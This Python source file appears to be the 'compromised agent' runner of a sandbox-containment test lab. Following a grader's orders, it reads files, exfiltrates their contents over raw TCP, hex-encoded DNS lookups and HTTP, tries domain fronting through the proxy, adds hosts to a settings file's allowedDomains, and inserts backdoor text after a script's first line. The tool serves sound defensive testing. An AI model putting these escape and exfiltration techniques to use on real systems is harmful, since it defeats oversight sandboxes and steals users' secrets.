"""The compromised agent: runs every probe inside the sandbox and prints what it tried, one JSON line each.

Runs inside the sandbox image as the unprivileged user (Python 3 standard
library only). It is NOT trusted to judge anything: the grader decides every
verdict from evidence outside the sandbox (canaries at the sink, in the DNS
log, in the container's output; the world copy before and after). What this
script prints only proves that an attempt was made, and carries file contents
out so a read can be proven by its per-run canary.

It reads its orders from /opt/sandbox-lab/run/config.json (written by the
grader, mounted read-only), parsed strictly by the shared ``wire`` module: an
order it does not know, or one with a missing or renamed field, makes it
refuse the whole run (a ``runner``/``refused`` record and no ``done``), which
the grader reports as an error, never as a verdict. For each probe, the steps to carry out (read,
write, an HTTP request, a raw TCP connection, a DNS lookup, steal = read and
send every way, front = open a tunnel to one host and name others inside it),
with every marker already built by the grader. It decides
nothing and is never told the canaries. The scope scan comes as more entries
of the same steps (every world file, directory and host); an HTTP step may say
``via``: "proxy" (only through the sandbox's proxy) or "direct" (never), and
``retries``: how often to ask again after a timeout (each attempt is printed, with its ``route``).
Each entry ends with its ``done`` record, whose ``data`` is how many records
the entry printed before it: the grader counts them, so a line lost on the way
out (a cut log, an engine's lost frames) shows instead of reading as an attempt
that found nothing.

With ``--await-go`` (a prepared run: ``backends.docker.prepared``) it reads its
orders and makes its agent, then waits for one line on stdin: ``go`` fires the
probes (its clock starts then); anything else (end of input: the grader went
away, or retired the run) ends it with a ``runner``/``refused`` record and no
probe, which the grader never judges.
"""

from __future__ import annotations

import binascii
import json
import os
import socket
import ssl
import sys
import threading
import time
import urllib.parse
from typing import TYPE_CHECKING, Callable, Iterable, Optional, TypeVar

if TYPE_CHECKING:
    from grader.protocol import wire
    from grader.services import runner_http
else:
    try:  # in the image (and under srt): beside this script
        import wire
        import runner_http
    except ImportError:  # on the host: imported from the package
        from grader.protocol import wire
        from grader.services import runner_http

CONFIG = "/opt/sandbox-lab/run/config.json"
READ_LIMIT = wire.READ_LIMIT
STEAL_LIMIT = 200  # what a steal sends of one file: its first bytes, stripped
STEAL_THREADS = 8
FRONT_THREADS = 4
PARALLEL = 24  # probes carried out at once, at least
START = time.monotonic()
_lock = threading.Lock()
_printed: dict[str, int] = {}  # records printed per entry since its run began: its done record says how many
_T = TypeVar("_T")


def emit(probe: str, step: str, ok: bool, detail: object = "", data: Optional[str] = None, target: Optional[str] = None,
         route: Optional[wire.Route] = None) -> None:
    # "t": seconds since the runner started: where time goes
    rec = wire.RunnerRecord(probe, step, bool(ok), str(detail)[:300], round(time.monotonic() - START, 3), target, data, route)
    line = wire.dump(rec)
    with _lock:
        sys.stdout.write(line + "\n")
        sys.stdout.flush()
        _printed[probe] = _printed.get(probe, 0) + 1


def err(exc: BaseException) -> str:
    name = type(exc).__name__
    code = getattr(exc, "errno", None)
    return f"{name}({code}): {exc}" if code else f"{name}: {exc}"


def each(work: Callable[[_T], object], items: Iterable[_T], width: int) -> None:
    """``work`` on every item, at most ``width`` at once, all finished before it returns; then the first item's
    exception (in the items' order), if any raised one: ``ThreadPoolExecutor.map`` drained, without the 5 ms its
    import cost every run's start."""
    todo, failed = list(enumerate(items)), {}
    queue = iter(todo)

    def worker() -> None:
        while True:
            with _lock:
                nxt = next(queue, None)
            if nxt is None:
                return
            try:
                work(nxt[1])
            except Exception as exc:  # noqa: BLE001 - raised again below, once all are done
                failed[nxt[0]] = exc

    threads = [threading.Thread(target=worker, daemon=True) for _ in range(min(width, len(todo)))]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    if failed:
        raise failed[min(failed)]


class Agent:
    def __init__(self, cfg: wire.RunnerOrders) -> None:
        self.cfg = cfg
        self.proxy = cfg.proxy
        self.timeout = cfg.timeout  # an HTTP exchange: the proxy answers fast, even to refuse
        # a raw connect to a black hole waits this long; the verdict never rests on it: a
        # blocked verdict needs the sink's silence, and a bridge answers in microseconds
        self.connect_timeout = cfg.connect_timeout
        # Verifies the chain and the host name, as ssl.create_default_context() does, but trusts only the simulated
        # world's authority: nothing else signs a certificate in the world, and loading the system's store (some 300
        # authorities) cost 50-90 ms of every run in the sandbox, and 190 ms on a host
        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        ca = cfg.ca_file
        if ca and os.path.exists(ca):
            ctx.load_verify_locations(ca)
        self.ssl = ctx
        # a sandbox with no proxy and no interface but loopback reaches nothing, now or a moment later
        self.networked = bool(self.proxy) or has_interface()
        # the proxy's own answer to a tunnel to a host (opened?, what it said), asked once a run: see ``front``
        self._answers: dict[tuple[str, int], tuple[bool, str]] = {}
        self._asking: dict[tuple[str, int], threading.Lock] = {}

    # --- primitives ---------------------------------------------------------------------

    def read(self, probe: str, path: str) -> Optional[bytes]:
        try:
            with open(path, "rb") as fh:
                data = fh.read(READ_LIMIT)
            emit(probe, "read", True, f"read {len(data)} bytes", data.decode("utf-8", "replace"), path)
            return data
        except OSError as exc:
            emit(probe, "read", False, err(exc), target=path)
            return None

    def write(self, probe: str, path: str, text: str, append: bool, after_first_line: bool = False,
              in_place: bool = False) -> None:
        if in_place:
            # over what the file holds, then cut to length: never empty on the way, as a truncating open leaves it,
            # so the scope scan reading it at that moment still finds what it held (its canary)
            try:
                with open(path, "r+") as fh:
                    fh.write(text)
                    fh.truncate()
                emit(probe, "write", True, f"rewrote it in place with {len(text)} bytes", target=path)
                return
            except OSError:
                pass  # not readable and writable both: written as any other write
        if after_first_line:
            # a script's backdoor goes right after its first line (#!): an "exec" further down would end it first
            try:
                with open(path, "r+") as fh:
                    head, nl, rest = fh.read().partition("\n")
                    fh.seek(0)
                    fh.write(head + nl + text + rest)
                    fh.truncate()
                emit(probe, "write", True, f"inserted {len(text)} bytes after the first line", target=path)
                return
            except OSError:
                pass  # unreadable or absent: appended instead, as any other write
        try:
            with open(path, "a" if append else "w") as fh:
                fh.write(text)
            emit(probe, "write", True, f"wrote {len(text)} bytes", target=path)
        except OSError as exc:
            emit(probe, "write", False, err(exc), target=path)

    def widen(self, probe: str, path: str, widen: wire.Widen, fallback: str) -> None:
        """Add hosts to a JSON settings file's network.allowedDomains, keeping everything else (its canary too);
        a file that cannot be read as JSON is written over with ``fallback``, the world's settings widened."""
        try:
            with open(path) as fh:
                data, _ = json.JSONDecoder().raw_decode(fh.read())  # anything after the JSON (a scan's line) is dropped
            net = data.get("network") if isinstance(data.get("network"), dict) else {}
            allowed = [d for d in net.get("allowedDomains") or [] if isinstance(d, str)]
            data["network"] = dict(net, allowedDomains=allowed + [d for d in widen.domains if d not in allowed])
            data[widen.key] = widen.marker
            text = json.dumps(data) + "\n"
        except (OSError, ValueError, AttributeError, TypeError):
            self.write(probe, path, fallback, append=False)
            return
        self.write(probe, path, text, append=False, in_place=True)

    def http(self, probe: str, method: str, url: str, body: Optional[bytes] = None, via: Optional[wire.Route] = None,
             retries: int = 0) -> bool:
        what = f"{method} {url}" + (f" via {via}" if via else "")
        if via == "proxy" and not self.proxy:
            emit(probe, "http", False, f"{what}: no proxy in this sandbox", target=url, route=via)
            return False
        for attempt in range(retries + 1):
            try:
                status, text = self.exchange(method, url, body, direct=via == "direct")
            except Exception as exc:  # noqa: BLE001 - every failure is a recorded attempt
                emit(probe, "http", False, f"{what}: {err(exc)}", target=url, route=via)
                if "timed out" not in str(exc).lower():
                    return False  # an answer (refused, no such name): asking again changes nothing
                continue
            if 200 <= status < 300:
                emit(probe, "http", True, f"{what}: {status}", text.decode("utf-8", "replace")[:300], url, via)
                return True
            emit(probe, "http", False, f"{what}: HTTP {status}", target=url, route=via)
            return False  # refused with a status: asked again, it says the same
        return False

    def exchange(self, method: str, url: str, body: Optional[bytes], direct: bool = False) -> tuple[int, bytes]:
        """One HTTP exchange, asked as ``urllib.request`` asks (the runner's client until its import cost 11 ms of
        every run's start): through the proxy unless ``direct`` or the host is in the environment's ``no_proxy``
        (``bypassed``), plain HTTP in absolute form with the proxy's credential, HTTPS in a CONNECT tunnel, with the
        same headers. Its status and at most ``BODY_LIMIT`` bytes of its body; a redirect is not followed (no
        server of the world sends one)."""
        u = urllib.parse.urlsplit(url)
        if u.scheme not in ("http", "https") or not u.hostname:
            raise ValueError(f"cannot ask for {url!r}: not an http(s) URL with a host")
        netloc = u.netloc.rpartition("@")[2]
        port = u.port or (443 if u.scheme == "https" else 80)
        proxied = bool(self.proxy) and not direct and not runner_http.bypassed(netloc)
        target = (u.path or "/") + (f"?{u.query}" if u.query else "")
        head = {"Host": netloc, "Accept-Encoding": "identity", "User-Agent": "sandbox-lab-agent", "Connection": "close"}
        if body is not None:
            head.update({"Content-Type": "application/x-www-form-urlencoded", "Content-Length": str(len(body))})
        elif method in ("PATCH", "POST", "PUT"):
            head["Content-Length"] = "0"
        if u.scheme == "https":
            raw = self._tunnel(u.hostname, port) if proxied else socket.create_connection((u.hostname, port), self.timeout)
            try:
                sock: socket.socket = self.ssl.wrap_socket(raw, server_hostname=u.hostname)
            except BaseException:
                raw.close()
                raise
        elif proxied:
            sock = self._to_proxy()
            target = url.partition("#")[0]  # absolute form: the proxy dials the host
            head.update(runner_http.proxy_credential(self.proxy or ""))
        else:
            sock = socket.create_connection((u.hostname, port), self.timeout)
        with sock, sock.makefile("rb") as answers:
            lines = "".join(f"{k}: {v}\r\n" for k, v in head.items())
            sock.sendall(f"{method} {target} HTTP/1.1\r\n{lines}\r\n".encode("latin-1") + (body or b""))
            return runner_http.read_response(answers)

    def tcp(self, probe: str, host: str, port: int, payload: bytes) -> None:
        try:
            with socket.create_connection((host, port), timeout=self.connect_timeout) as s:
                s.sendall(payload)
                s.shutdown(socket.SHUT_WR)
                reply = s.recv(256).decode("utf-8", "replace")
            emit(probe, "tcp", True, f"{host}:{port} answered", reply[:200], f"{host}:{port}")
        except OSError as exc:
            emit(probe, "tcp", False, f"{host}:{port}: {err(exc)}", target=f"{host}:{port}")

    def dns(self, probe: str, name: str) -> None:
        try:
            addrs = socket.getaddrinfo(name, 80, socket.AF_INET, socket.SOCK_STREAM)
            emit(probe, "dns", True, f"{name} -> {addrs[0][4][0]}", target=name)
        except OSError as exc:
            emit(probe, "dns", False, f"{name}: {err(exc)}", target=name)

    def _to_proxy(self) -> socket.socket:
        """A connection to the sandbox's proxy (there is one: the caller asked)."""
        p = urllib.parse.urlsplit(self.proxy or "")
        return socket.create_connection((p.hostname or "", p.port or 80), timeout=self.timeout)

    def _tunnel(self, host: str, port: int) -> socket.socket:
        """A socket to ``host:port``: through the proxy's CONNECT when there is one, else straight there."""
        if not self.proxy:
            return socket.create_connection((host, port), timeout=self.timeout)
        sock = self._to_proxy()
        head = f"CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\n"
        head += "".join(f"{k}: {v}\r\n" for k, v in runner_http.proxy_credential(self.proxy).items())
        sock.sendall((head + "\r\n").encode())
        answer = b""
        while b"\r\n\r\n" not in answer and len(answer) < 8192:
            chunk = sock.recv(1)  # one byte at a time: nothing of the tunnel is read past the head
            if not chunk:
                break
            answer += chunk
        status = answer.split(b"\r\n", 1)[0].decode("latin-1")
        if " 200 " not in status + " ":
            sock.close()
            raise ConnectionRefusedError(f"the proxy answered {status or 'nothing'}")
        return sock

    def _proxy_answer(self, host: str, port: int) -> tuple[bool, str]:
        """Whether a tunnel to ``host:port`` opens (and what was answered), asked once a run whoever asks first."""
        key = (host, port)
        with _lock:
            asking = self._asking.setdefault(key, threading.Lock())
        with asking:
            if key not in self._answers:
                try:
                    self._tunnel(host, port).close()
                    self._answers[key] = (True, f"CONNECT {host}:{port}: tunnel opened")
                except OSError as exc:
                    self._answers[key] = (False, f"CONNECT {host}:{port}: {err(exc)}")
            return self._answers[key]

    def front(self, probe: str, step: wire.FrontStep) -> None:
        """Open a tunnel to one host, then name another inside it: in TLS (SNI) and in HTTP (Host).

        With no attempts, only the tunnel is asked for: the proxy's decision on that host goes on record.
        Behind a proxy, a host the proxy itself opens a tunnel to is not named inside another's: data
        that reaches it that way was let through anyway, and the judge counts only hosts the proxy
        refused. Each host is asked once a run, by its own decision step or by the first front to need it.
        """
        connect, port = step.connect, step.port
        attempts = step.attempts
        if not attempts:
            emit(probe, "front", *self._proxy_answer(connect, port), target=connect)
            return
        if self.proxy:
            attempts = tuple(a for a in attempts if not self._proxy_answer(a.host, port)[0])
            if not attempts:
                return
        body = step.body.encode()

        def what(a: wire.FrontAttempt) -> tuple[str, str]:
            return f"CONNECT {connect}:{port}, then SNI {a.sni} and Host {a.host}", f"{connect}>{a.sni}>{a.host}"

        def opened(a: wire.FrontAttempt) -> Optional[socket.socket]:
            """A fresh tunnel to ``connect``; None (on record for ``a``) when the proxy refused it or it was never reached."""
            try:
                try:
                    return self._tunnel(connect, port)
                except OSError as first:  # a proxy's refusal is an answer; a host not reached is asked once more
                    if "the proxy answered" in str(first) or not self.networked:
                        raise  # ... unless nothing is reachable at all: no proxy and no interface but loopback
                    time.sleep(0.5)
                    return self._tunnel(connect, port)
            except OSError as exc:  # refused by the proxy, or never reached: the judge tells the two apart
                doing, target = what(a)
                emit(probe, "front", False, f"{doing}: {wire.TUNNEL_NOT_OPENED}: {err(exc)}", target=target)
                return None

        def session(group: list[wire.FrontAttempt], first_opened: Callable[[bool], object] = bool) -> None:
            """Each name of ``group`` in turn, over as few tunnels as the servers allow: a tunnel and its TLS session
            (SNI of the first) carry request after request while the answers keep the connection open (a server
            keeps it after refusing a name); a new one is opened for the rest when it closes. ``first_opened`` hears
            whether the first tunnel was opened: when it was not, no name of the group rides in one."""
            pending = list(group)
            first = True
            while pending:
                raw = opened(pending[0])
                if first:
                    first_opened(raw is not None)
                if raw is None:
                    if first:
                        return
                    pending.pop(0)
                    continue
                first = False
                try:
                    with self.ssl.wrap_socket(raw, server_hostname=pending[0].sni) as tls, tls.makefile("rb") as answers:
                        while pending:
                            a = pending[0]
                            request = (f"POST {step.request_path} HTTP/1.1\r\nHost: {a.host}\r\nUser-Agent: sandbox-lab-agent\r\n"
                                       f"Content-Length: {len(body)}\r\n\r\n").encode() + body
                            tls.sendall(request)
                            status, keep = runner_http.read_answer(answers)
                            pending.pop(0)
                            doing, target = what(a)
                            emit(probe, "front", status.startswith("HTTP/1.1 2"), f"{doing}: {status or 'no answer'}", target=target)
                            if not keep:
                                break
                except OSError as exc:
                    doing, target = what(pending.pop(0))
                    emit(probe, "front", False, f"{doing}: {err(exc)}", target=target)
                finally:
                    raw.close()

        # the names carried in HTTP alone (SNI of the tunnel's own host) share a tunnel; each other SNI needs its own
        shared = [a for a in attempts if a.sni == connect]
        groups = ([shared] if shared else []) + [[a] for a in attempts if a.sni != connect]
        # the first group's first tunnel says whether the others are tried (when it was refused, no other name can
        # ride in one); they start the moment it opens, beside the rest of that group: a few at once, each a round
        # trip through the proxy and a TLS handshake
        gate, reached = threading.Event(), [False]

        def heard(ok: bool) -> None:
            reached[0] = ok
            gate.set()

        def lead() -> None:
            try:
                session(groups[0], heard)
            finally:
                gate.set()  # whatever happened, the others stop waiting (untried unless it was opened)

        def follow(group: list[wire.FrontAttempt]) -> None:
            gate.wait()
            if reached[0]:
                session(group)

        each(lambda work: work(), [lead, *(lambda g=g: follow(g) for g in groups[1:])], FRONT_THREADS + 1)

    # --- orders ----------------------------------------------------------------------------

    def steal(self, probe: str, step: wire.StealStep) -> None:
        """Read one file, then send what it held every way the host listed; the web's URLs carry the files
        named in ``also`` with it, all in one request each."""
        read = self.read(probe, step.path)
        data = stolen(read) if read else b""
        jobs: list[Callable[[], object]] = []
        tcp = step.tcp
        if data and tcp is not None:
            jobs.append(lambda: self.tcp(probe, tcp.host, tcp.port, tcp.prefix.encode() + data))
        hexdata = binascii.hexlify(data).decode()
        chunks = [hexdata[i:i + 60] for i in range(0, len(hexdata), 60)][:12]
        for i, chunk in enumerate(chunks):
            name = f"{chunk}.{i}{step.dns_suffix}"
            jobs.append(lambda n=name: self.dns(probe, n))  # type: ignore[misc]
        web = b"\n".join(x for x in [data, *(quiet_read(p) for p in step.also)] if x)
        if web:
            for url in step.urls:
                jobs.append(lambda u=url: self.http(probe, "POST", u, web, retries=1))  # type: ignore[misc]
            for url in step.get_urls:  # what was read, in the URL of a download
                jobs.append(lambda u=url: self.http(probe, "GET", u + urllib.parse.quote(web, safe=""), None, retries=1))  # type: ignore[misc]
        # few threads per stolen file: every secret and credential is stolen at once, and the
        # sandbox's pids limit (256) counts threads
        each(lambda f: f(), jobs, STEAL_THREADS)

    def step(self, probe: str, step: wire.Step) -> None:
        if isinstance(step, wire.ReadStep):
            self.read(probe, step.path)
        elif isinstance(step, wire.WriteStep) and step.widen is not None:
            self.widen(probe, step.path, step.widen, step.text)
        elif isinstance(step, wire.WriteStep):
            self.write(probe, step.path, step.text, append=step.append, after_first_line=step.after_first_line)
        elif isinstance(step, wire.HttpStep):
            body = step.body
            self.http(probe, step.method, step.url, body.encode() if body is not None else None, step.via, step.retries)
        elif isinstance(step, wire.TcpStep):
            self.tcp(probe, step.host, step.port, step.payload.encode())
        elif isinstance(step, wire.TcpGatewaysStep):
            hosts = gateways() + list(step.names)
            gw = step
            each(lambda h: self.tcp(probe, h, gw.port, gw.payload.encode()), hosts, len(hosts))
        elif isinstance(step, wire.DnsStep):
            self.dns(probe, step.name)
        elif isinstance(step, wire.StealStep):
            self.steal(probe, step)
        else:
            self.front(probe, step)  # the parser admits no other kind

    def run(self, spec: wire.ProbeOrders) -> None:
        """Carry out one probe's steps (built by the grader), at once, then say it is done and how many records
        came before (its own: every step has finished)."""
        pid, steps = spec.id, spec.steps
        with _lock:
            _printed[pid] = 0
        if steps:
            width = min(len(steps), spec.parallel or len(steps))
            each(lambda st: self.step(pid, st), steps, width)
        with _lock:
            printed = _printed[pid]
        emit(pid, "done", True, f"after {printed} records", data=str(printed))


def stolen(raw: bytes) -> bytes:
    """What a steal sends of a file that held ``raw``."""
    return raw.strip()[:STEAL_LIMIT]


def quiet_read(path: str) -> bytes:
    """What a steal sends of the file at ``path``, read with no record (its own step records the read); empty
    when it cannot be read."""
    try:
        with open(path, "rb") as fh:
            return stolen(fh.read(READ_LIMIT))
    except OSError:
        return b""


def has_interface() -> bool:
    """Has this sandbox a network interface other than loopback? (``--network none`` leaves only ``lo``.)"""
    try:
        return any(name != "lo" for _, name in socket.if_nameindex())
    except OSError:
        return True  # cannot tell: assume there is a network, and keep asking again where it helps


def gateways() -> list[str]:
    """Default gateways from the routing table: where the host usually answers."""
    out = []
    try:
        with open("/proc/net/route") as fh:
            for line in fh.readlines()[1:]:
                f = line.split()
                if len(f) > 2 and f[1] == "00000000" and f[2] != "00000000":
                    out.append(socket.inet_ntoa(bytes.fromhex(f[2])[::-1]))
    except OSError:
        pass
    return out + ["172.17.0.1"]


GO = "go"  # the one line a prepared runner waits for on stdin


def main(await_go: bool = False) -> int:
    global START
    try:
        with open(CONFIG) as fh:
            cfg = wire.parse_orders(json.load(fh))
    except (OSError, ValueError) as exc:  # WireError is a ValueError: an order this runner cannot carry out
        # no probe runs and none says "done": the grader reports an error, never a verdict
        emit("runner", "refused", False, f"cannot read the orders: {err(exc)}")
        return 2
    agent = Agent(cfg)
    if await_go:
        # everything before the probes is done (the interpreter, the imports, the orders): the grader's
        # ``settled`` waits for this line, so a go sent after it costs the probes alone
        emit("runner", "ready", True, "waiting for the go")
        line = sys.stdin.readline()
        if line.strip() != GO:  # no go: the run was retired (or its grader died); nothing fires
            emit("runner", "refused", False, "no go: the prepared run was retired")
            return 3
        START = time.monotonic()  # the records' clock starts with the probes
    emit("runner", "start", True, f"uid={os.getuid()}")
    # every entry at once: the scan's entries must not queue behind the probes
    def run(spec: wire.ProbeOrders) -> None:
        try:
            agent.run(spec)
        except Exception as exc:  # noqa: BLE001 - that entry has no done record: the grader reports an error
            emit("runner", "crash", False, err(exc))

    each(run, cfg.probes, max(PARALLEL, len(cfg.probes)))
    emit("runner", "end", True)
    return 0


if __name__ == "__main__":
    sys.exit(main(await_go="--await-go" in sys.argv[1:]))
